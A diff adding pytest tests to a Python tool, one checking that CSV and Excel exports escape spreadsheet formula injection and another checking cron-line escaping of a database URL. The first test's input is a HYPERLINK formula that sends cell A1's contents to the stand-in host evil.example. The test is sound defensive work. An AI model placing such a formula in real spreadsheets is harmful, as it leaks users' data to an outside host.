@@ -123,3 +123,26 @@ def test_schedule_prints_cron_line(tmp_path):
     line = run(ws, "schedule", "--cron", "0 5 * * 1").output
     assert line.startswith("0 5 * * 1 cd ") and "run" in line
     assert run(ws, "schedule", "--cron", "* *", ok=False).exit_code == 1
+
+
+def test_exports_never_let_text_become_a_formula(tmp_path):
+    import openpyxl
+
+    from storecheck.tables import write_table
+
+    rows = [{"name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "price": 1}, {"name": "@SUM(1+1)", "price": -2}]
+    write_table(rows, tmp_path / "t.csv", ["name", "price"])
+    lines = (tmp_path / "t.csv").read_text().splitlines()
+    assert lines[1].startswith("\"'=HYPERLINK") and lines[2] == "'@SUM(1+1),-2"
+    write_table(rows, tmp_path / "t.xlsx", ["name", "price"])
+    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
+    assert sheet["A2"].data_type == "s" and sheet["A2"].value.startswith("=HYPERLINK")
+    assert sheet["B3"].value == -2
+
+
+def test_schedule_keeps_the_database_url_and_escapes_percent(tmp_path, monkeypatch):
+    ws = setup_workspace(tmp_path)
+    monkeypatch.setenv("STORECHECK_DATABASE_URL", "postgresql+psycopg://u:p%40ss@db/storecheck")
+    line = run(ws, "schedule", "--cron", "@daily").output.strip()
+    assert "STORECHECK_DATABASE_URL=postgresql+psycopg://u:p\\%40ss@db/storecheck " in line
+    assert "%" not in line.replace("\\%", "")
